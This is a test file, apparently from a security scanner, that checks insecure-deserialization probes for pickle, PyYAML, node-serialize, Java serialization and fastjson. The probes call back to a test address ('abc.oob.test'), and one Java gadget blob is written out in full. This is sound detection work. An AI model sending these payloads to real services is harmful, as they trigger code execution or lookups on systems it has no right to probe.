/** Objects that call, read by the languages themselves where they are here. */
import { execFile } from 'node:child_process'
import { createServer } from 'node:http'
import { createRequire } from 'node:module'
import type { AddressInfo } from 'node:net'
import { promisify } from 'node:util'
import { runInNewContext } from 'node:vm'
import { expect, it } from 'vitest'
import { harmOf } from '../../../safety/harmless.ts'
import { fakeProbe } from '../insertion-points/testing/fake-probe.ts'
import { bodyFor, OBJECTS, objectFor } from './objects.ts'

const run = promisify(execFile)
const ADDRESS = { token: 'abc', host: 'abc.oob.test', url: 'http://abc.oob.test/' }
const named = (flavour: string) => {
  const found = OBJECTS.find((one) => one.flavour.startsWith(flavour))
  if (!found) throw new Error(flavour)
  return found
}
const pointOf = (value: string, change = {}) => fakeProbe(() => ({ text: '' }), { value, ...change }).probe.point

/** What came while `work` was done with an address of ours. */
const called = async (work: (address: typeof ADDRESS) => Promise<unknown>): Promise<readonly string[]> => {
  const came: string[] = []
  const server = createServer((request, response) => {
    came.push(request.url ?? '')
    response.end()
  })
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
  const { port } = server.address() as AddressInfo
  try {
    await work({ ...ADDRESS, url: `http://127.0.0.1:${port}/abc/` })
    return came
  } finally {
    server.close()
  }
}

it('a pickle calls when Python reads it', async () => {
  const read = 'import sys,base64,pickle; pickle.loads(base64.b64decode(sys.argv[1]))'
  const came = await called((address) =>
    run('python3', ['-c', read, objectFor(pointOf('gASVAAAA'), named('Python, pickle'), address) ?? ''], {
      timeout: 8_000,
    }),
  )
  expect(came).toEqual(['/abc/'])
})

it.each([
  ['a document', 'spec', 'columns: [name, city]\nlimit: 10', true],
  ['a name', 'yaml', '', true],
  ['a remark', 'text', 'Note: at ten', false],
])('YAML is known by %s', (_kind, name, value, holds) => {
  const object = objectFor(pointOf(value, { name }), named('Python, YAML'), ADDRESS)
  expect(object?.startsWith('!!python/') ?? false).toBe(holds)
})

it('YAML is known by what a body of it is sent to, and no word of an address by that', () => {
  const sentTo = (url: string, place: string) => {
    const point = pointOf('receiver: a person', { name: 'document', place })
    const object = objectFor({ ...point, request: { ...point.request, url } }, named('Python, YAML'), ADDRESS)
    return object?.startsWith('!!python/') ?? false
  }
  expect(sentTo('https://shop.test/api/import/yaml', 'json')).toBe(true)
  expect(sentTo('https://shop.test/import.php?format=yml', 'form')).toBe(true)
  expect(sentTo('https://shop.test/api/import/yaml', 'query')).toBe(false)
  expect(sentTo('https://yaml.test/api/import/rules', 'json')).toBe(false)
})

it('a function in JSON calls when it is evaluated as node-serialize does', async () => {
  const came = await called(async (address) => {
    const { qv } = JSON.parse(objectFor(pointOf('{"name":"Robin"}'), named('Node.js'), address) ?? '{}') as {
      qv: string
    }
    const code = qv.slice('_$$ND_FUNC$$_'.length)
    const request = runInNewContext(`(${code})`, { require: createRequire(import.meta.url) }) as NodeJS.EventEmitter
    await new Promise((done) => request.once('response', done))
  })
  expect(came).toEqual(['/abc/'])
})

it('a map of Java is what Java itself writes', () => {
  const value = objectFor(pointOf('rO0ABXNyAA=='), named('Java, a map'), { ...ADDRESS, host: 'abcdef.oob.test' })
  const written =
    'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABc3IADGphdmEubmV0LlVSTJYlNzYa/ORyAwAHSQAIaGFzaENvZGVJAARwb3J0TAAJYXV0aG9yaXR5dAASTGphdmEvbGFuZy9TdHJpbmc7TAAEZmlsZXEAfgADTAAEaG9zdHEAfgADTAAIcHJvdG9jb2xxAH4AA0wAA3JlZnEAfgADeHD//////////3QAD2FiY2RlZi5vb2IudGVzdHQAAS9xAH4ABXQABGh0dHBweHQAAXF4'
  expect(value).toBe(written)
})

it.each([
  ['hexadecimal', 'aced0005737200', /^aced00057372/],
  ['in base64 for addresses', 'rO0ABXNyAB-_', /^rO0ABXNy[\w-]+$/],
])('an object is coded as the one before: %s', (_name, value, coded) => {
  expect(objectFor(pointOf(value), named('Java, a map'), ADDRESS)).toMatch(coded)
})

it('a value that is no object holds none', () => {
  for (const value of ['tent', '', 'eyJub3QgSlNPTg', '[1,2]', 'a:1:{i:0;s:1:"a";}'])
    expect(OBJECTS.map((one) => objectFor(pointOf(value), one, ADDRESS)).filter(Boolean)).toEqual([])
})

it('JSON in base64 stays itself with a member more', () => {
  const value = Buffer.from('{"user":"robin","id":7}').toString('base64url')
  const coded = objectFor(pointOf(value), named('Python, JSON'), ADDRESS) ?? ''
  expect(JSON.parse(Buffer.from(coded, 'base64url').toString('utf8'))).toMatchObject({ user: 'robin', id: 7 })
})

it('a body of JSON gets a member more, and the same words as a text beside it', () => {
  const point = pointOf('robin', { place: 'json', name: '/user', request: { body: '{"user":"robin"}' } })
  const [body, inert] = [false, true].map((one) =>
    JSON.parse(bodyFor(point, named('Java, JSON'), ADDRESS, one) ?? '{}'),
  )
  expect(body).toEqual({ user: 'robin', qv: { '@type': 'java.net.Inet4Address', val: 'abc.oob.test' } })
  expect(typeof inert.qv).toBe('string')
})

it('names that nothing else is looked up for need a domain', () => {
  expect(objectFor(pointOf('rO0ABXNyAA=='), named('Java, a map'), { ...ADDRESS, host: null })).toBeNull()
})

it.each(OBJECTS)('does no harm: $flavour', ({ of }) => {
  expect(harmOf(Buffer.from(of(ADDRESS)).toString('latin1'), { effect: 'unknown', home: ADDRESS.url })).toBeNull()
})
